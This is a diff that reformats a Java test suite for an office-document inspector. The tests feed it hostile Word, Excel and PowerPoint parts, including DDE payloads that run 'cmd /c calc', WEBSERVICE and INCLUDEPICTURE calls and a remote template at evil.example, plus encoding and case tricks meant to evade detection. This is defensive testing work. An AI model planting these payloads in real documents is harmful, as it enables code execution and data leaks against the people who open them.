@@ -51,15 +51,28 @@ class OfficeInspectionTest {
                                 .replace("<Rel", "<p:Rel")
                                 .replace("</Rel", "</p:Rel"))),
                 arguments("UTF-16", RELS, plain.getBytes(StandardCharsets.UTF_16)),
-                arguments("UTF-16 told by its first sign", RELS, ("<?xml version=\"1.0\" encoding=\"UTF-16LE\"?>" + plain).getBytes(StandardCharsets.UTF_16LE)),
-                arguments("characters by number", RELS, bytes(plain.replace("attached", "&#97;ttached").replace("External", "&#x45;xternal"))),
-                arguments("behind a megabyte", RELS, bytes(plain.replace("<Relationship ", comment + "<Relationship "))),
+                arguments(
+                        "UTF-16 told by its first sign",
+                        RELS,
+                        ("<?xml version=\"1.0\" encoding=\"UTF-16LE\"?>" + plain).getBytes(StandardCharsets.UTF_16LE)),
+                arguments(
+                        "characters by number",
+                        RELS,
+                        bytes(plain.replace("attached", "&#97;ttached").replace("External", "&#x45;xternal"))),
+                arguments(
+                        "behind a megabyte", RELS, bytes(plain.replace("<Relationship ", comment + "<Relationship "))),
                 arguments("an ending in capitals", "word/_rels/settings.xml.RELS", bytes(plain)),
                 arguments("a name as in an address", "word/_rels/settings.xml.%72els", bytes(plain)),
-                arguments("another case", RELS, bytes(plain.replace("External", "EXTERNAL").replace("TargetMode", "targetmode"))),
+                arguments(
+                        "another case",
+                        RELS,
+                        bytes(plain.replace("External", "EXTERNAL").replace("TargetMode", "targetmode"))),
                 arguments("no mode but an address", RELS, bytes(plain.replace(" TargetMode=\"External\"", ""))),
                 arguments("a picture from elsewhere", RELS, bytes(plain.replace("attachedTemplate", "image"))),
-                arguments("a share of a network", RELS, bytes(plain.replace("http://evil.example/t.dotm", "\\\\evil.example\\t.dotm"))));
+                arguments(
+                        "a share of a network",
+                        RELS,
+                        bytes(plain.replace("http://evil.example/t.dotm", "\\\\evil.example\\t.dotm"))));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -70,19 +83,44 @@ class OfficeInspectionTest {
 
     static Stream<Arguments> active() {
         return Stream.of(
-                arguments("dde link of a workbook", part("xl/externalLinks/externalLink1.xml", "<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></x:externalLink>")),
-                arguments("dde in a formula", part("xl/worksheets/sheet1.xml", "<s><c><f>cmd|'/c calc'!A0</f></c></s>")),
-                arguments("dde behind a name", part("xl/workbook.xml", "<w><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></w>")),
-                arguments("web service", part("xl/worksheets/sheet1.xml", "<s><c><f>_xlfn.WEBSERVICE(\"http://evil.example\")</f></c></s>")),
+                arguments(
+                        "dde link of a workbook",
+                        part(
+                                "xl/externalLinks/externalLink1.xml",
+                                "<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></x:externalLink>")),
+                arguments(
+                        "dde in a formula", part("xl/worksheets/sheet1.xml", "<s><c><f>cmd|'/c calc'!A0</f></c></s>")),
+                arguments(
+                        "dde behind a name",
+                        part(
+                                "xl/workbook.xml",
+                                "<w><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></w>")),
+                arguments(
+                        "web service",
+                        part(
+                                "xl/worksheets/sheet1.xml",
+                                "<s><c><f>_xlfn.WEBSERVICE(\"http://evil.example\")</f></c></s>")),
                 arguments("data connection", part("xl/connections.xml", "<connections/>")),
-                arguments("dde field in pieces", part("word/document.xml", "<d><fldChar fldCharType='begin'/><instrText> DD</instrText><instrText>EAUTO c:\\\\cmd</instrText><fldChar fldCharType='end'/></d>")),
-                arguments("simple dde field", part("word/document.xml", "<w:d xmlns:w='w'><w:fldSimple w:instr=' dde excel '/></w:d>")),
-                arguments("picture field", part("word/document.xml", "<d><instrText>INCLUDEPICTURE \"http://evil.example/a.png\"</instrText></d>")),
+                arguments(
+                        "dde field in pieces",
+                        part(
+                                "word/document.xml",
+                                "<d><fldChar fldCharType='begin'/><instrText> DD</instrText><instrText>EAUTO c:\\\\cmd</instrText><fldChar fldCharType='end'/></d>")),
+                arguments(
+                        "simple dde field",
+                        part("word/document.xml", "<w:d xmlns:w='w'><w:fldSimple w:instr=' dde excel '/></w:d>")),
+                arguments(
+                        "picture field",
+                        part(
+                                "word/document.xml",
+                                "<d><instrText>INCLUDEPICTURE \"http://evil.example/a.png\"</instrText></d>")),
                 arguments("imported page", part("word/document.xml", "<w:d xmlns:w='w'><w:altChunk/></w:d>")),
                 arguments("buttons of its own", part("customUI/customUI14.xml", "<customUI/>")),
                 arguments("active x", part("word/activeX/activeX1.xml", "<ocx/>")),
                 arguments("embedded file", part("word/embeddings/sheet.xlsx", "x")),
-                arguments("program of a slide", part("ppt/slides/slide1.xml", "<p><hlinkClick action='ppaction://program'/></p>")),
+                arguments(
+                        "program of a slide",
+                        part("ppt/slides/slide1.xml", "<p><hlinkClick action='ppaction://program'/></p>")),
                 arguments("macro sheet", part("xl/macrosheets/sheet1.xml", "<m/>")),
                 arguments("fraction around it", part("word/document.xml", "<d><f><num><altChunk/></num></f></d>")));
     }
@@ -128,11 +166,16 @@ class OfficeInspectionTest {
         String relations = "<Relationships " + SPACE + "><Relationship Id=\"r1\" Type=\"" + TYPE + kind
                 + "\" Target=\"https://ville.example/\" TargetMode=\"External\"/><Relationship Id=\"r2\" Type=\"" + TYPE
                 + "styles\" Target=\"styles.xml\"/></Relationships>";
-        Map<String, byte[]> parts = part("word/document.xml", "<d><instrText> HYPERLINK \"https://ville.example/DDE\" </instrText><instrText>PAGE</instrText></d>");
+        Map<String, byte[]> parts = part(
+                "word/document.xml",
+                "<d><instrText> HYPERLINK \"https://ville.example/DDE\" </instrText><instrText>PAGE</instrText></d>");
         parts.put("word/_rels/document.xml.rels", bytes(relations));
 
         assertThat(inspected(parts)).isEqualTo(AttachmentType.DOCX);
-        assertThat(inspected(open("<o:d xmlns:o='o' xmlns:t='t' xmlns:xlink='l'><t:a xlink:href='https://ville.example'/><t:scripts/><t:image xlink:href='Pictures/a.png'/></o:d>")))
+        assertThat(
+                        inspected(
+                                open(
+                                        "<o:d xmlns:o='o' xmlns:t='t' xmlns:xlink='l'><t:a xlink:href='https://ville.example'/><t:scripts/><t:image xlink:href='Pictures/a.png'/></o:d>")))
                 .isEqualTo(AttachmentType.ODT);
     }
 
